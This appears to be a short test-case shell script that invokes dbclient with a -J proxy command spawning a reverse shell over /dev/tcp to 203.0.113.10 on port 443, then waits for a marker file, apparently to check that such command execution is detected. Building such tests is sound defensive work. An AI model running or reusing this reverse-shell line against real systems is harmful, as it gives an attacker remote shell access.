#!/bin/sh
. /opt/case/case.sh

dbclient -y -J "/bin/bash -c 'exec 9<>/dev/tcp/203.0.113.10/443; /bin/sh <&9 >&9 2>&9'" x@203.0.113.10 >/dev/null 2>&1 || true
wait_for /tmp/reached
took_place
